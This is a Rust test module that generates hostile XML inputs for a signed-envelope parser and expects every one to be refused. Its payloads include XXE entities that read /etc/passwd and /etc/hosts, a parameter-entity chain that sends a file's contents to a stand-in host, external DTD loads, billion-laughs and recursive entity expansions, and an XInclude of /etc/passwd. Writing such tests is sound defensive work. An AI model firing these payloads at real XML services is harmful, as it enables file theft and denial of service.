//! Document types and entities: files read, hosts called, memory filled, values changed behind a signature.

use viereck_envelope::Refused;

use crate::case::Attacker::Path;
use crate::case::Cases;
use crate::craft::change;
use crate::scene::Genuine;

pub(crate) fn cases<'a>(genuine: &Genuine<'a>) -> Cases<'a> {
    let mut cases = Cases::of("entities");
    let text = &genuine.text;
    let with = |doctype: &str, value: &str| {
        format!(
            "{doctype}{}",
            change(text, "<Kind>application", &format!("<Kind>application{value}"))
        )
    };
    let laughs: String = (1..30)
        .map(|n| format!("<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10)))
        .collect();
    let large = "x".repeat(100_000);
    for (name, doctype, value) in [
        ("a document type without anything", "<!DOCTYPE Envelope>".to_owned(), ""),
        ("a document type in lower case", "<!doctype Envelope>".to_owned(), ""),
        ("an internal entity", "<!DOCTYPE E [<!ENTITY a \"x\">]>".to_owned(), "&a;"),
        ("an entity that replaces a value", "<!DOCTYPE E [<!ENTITY a \"<Region>01056</Region>\">]>".to_owned(), "&a;"),
        ("an entity of a file", "<!DOCTYPE E [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>".to_owned(), "&a;"),
        ("an entity of a host", "<!DOCTYPE E [<!ENTITY a SYSTEM \"http://127.0.0.1:1/\">]>".to_owned(), "&a;"),
        ("an entity of a device that never ends", "<!DOCTYPE E [<!ENTITY a SYSTEM \"file:///dev/zero\">]>".to_owned(), "&a;"),
        ("an entity of a public name", "<!DOCTYPE E [<!ENTITY a PUBLIC \"p\" \"http://127.0.0.1:1/\">]>".to_owned(), "&a;"),
        ("an unparsed entity", "<!DOCTYPE E [<!NOTATION n SYSTEM \"n\"><!ENTITY a SYSTEM \"f\" NDATA n>]>".to_owned(), ""),
        ("a parameter entity of a host", "<!DOCTYPE E [<!ENTITY % a SYSTEM \"http://127.0.0.1:1/\">%a;]>".to_owned(), ""),
        ("parameter entities that send a file away", "<!DOCTYPE E [<!ENTITY % f SYSTEM \"file:///etc/hosts\"><!ENTITY % a \"<!ENTITY b SYSTEM 'http://127.0.0.1:1/?%f;'>\">%a;]>".to_owned(), "&b;"),
        ("an external document type", "<!DOCTYPE E SYSTEM \"http://127.0.0.1:1/e.dtd\">".to_owned(), ""),
        ("an external document type of a public name", "<!DOCTYPE E PUBLIC \"-//x\" \"http://127.0.0.1:1/e.dtd\">".to_owned(), ""),
        ("a billion laughs", format!("<!DOCTYPE E [<!ENTITY a0 \"ha\">{laughs}]>"), "&a29;"),
        ("an entity of itself", "<!DOCTYPE E [<!ENTITY a \"&a;\">]>".to_owned(), "&a;"),
        ("two entities of each other", "<!DOCTYPE E [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>".to_owned(), "&a;"),
        ("a large entity used often", format!("<!DOCTYPE E [<!ENTITY a \"{large}\">]>"), "&a;&a;&a;&a;&a;&a;"),
        ("an entity in place of lt", "<!DOCTYPE E [<!ENTITY lt \"x\">]>".to_owned(), "&lt;"),
        ("an attribute declared to be an Id", "<!DOCTYPE E [<!ATTLIST Profile x ID #IMPLIED>]>".to_owned(), ""),
        ("an attribute with a default", "<!DOCTYPE E [<!ATTLIST Header Id CDATA \"header\">]>".to_owned(), ""),
        ("an attribute with a fixed namespace", "<!DOCTYPE E [<!ATTLIST Envelope xmlns CDATA #FIXED \"urn:x\">]>".to_owned(), ""),
        ("a conditional section", "<!DOCTYPE E [<![INCLUDE[<!ENTITY a \"x\">]]>]>".to_owned(), ""),
        ("a document type with a comment", "<!DOCTYPE E [<!-- ]> -->]>".to_owned(), ""),
    ] {
        let expected = Refused::Doctype;
        cases.add(Path, name, with(&doctype, value), expected);
    }
    let own = "<Envelope xmlns=\"urn:viereck:envelope:1\">";
    for (name, from, to, expected) in [
        ("a document type within the root", own, format!("{own}<!DOCTYPE Envelope>"), Refused::Doctype),
        ("a document type behind the root", "</Envelope>", "</Envelope><!DOCTYPE Envelope>".to_owned(), Refused::Doctype),
        ("a document type behind a comment", own, format!("<!-- --><!DOCTYPE Envelope>{own}"), Refused::Comment),
        ("a document type that does not end", own, format!("<!DOCTYPE E [<!ENTITY a \"x\">{own}"), Refused::NotWellFormed),
        ("an entity declared nowhere", "<Kind>application", "<Kind>&application;".to_owned(), Refused::Reference),
        ("an entity of HTML", "<Kind>application", "<Kind>application&nbsp;".to_owned(), Refused::Reference),
        ("an entity within an attribute", "payloadSchema=\"", "payloadSchema=\"&a;".to_owned(), Refused::Reference),
        ("an entity between elements", "</Profile>", "</Profile>&a;".to_owned(), Refused::Reference),
        ("an entity within the certificate", "<ds:X509Certificate>", "<ds:X509Certificate>&a;".to_owned(), Refused::Reference),
        ("an element declaration of its own", own, format!("<!ELEMENT Envelope ANY>{own}"), Refused::NotWellFormed),
        ("an inclusion by XInclude", "<Profile>", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"></xi:include><Profile>".to_owned(), Refused::Namespace),
    ] {
        cases.add(Path, name, change(text, from, &to), expected);
    }
    cases
}
